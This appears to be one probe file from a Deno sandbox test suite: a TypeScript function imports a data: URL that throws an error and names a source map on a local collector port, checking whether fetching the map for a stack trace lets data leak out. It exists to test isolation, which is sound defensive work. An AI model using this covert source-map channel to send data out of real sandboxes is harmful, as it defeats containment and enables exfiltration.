// Carries data out by a source map that Deno would fetch for a stack trace.
import type { Target } from "../attack.ts";

export const layer = "namespaces";

export default async function (target: Target): Promise<string | null> {
  const source =
    `throw new Error("x");\n//# sourceMappingURL=http://127.0.0.1:${target.tcpPort}/secret.map`;
  try {
    await import(`data:text/javascript,${encodeURIComponent(source)}`);
  } catch (error) {
    // The suite's collector records a hit, if any. The stack trace itself proves nothing.
    console.error(error);
  }
  return null;
}
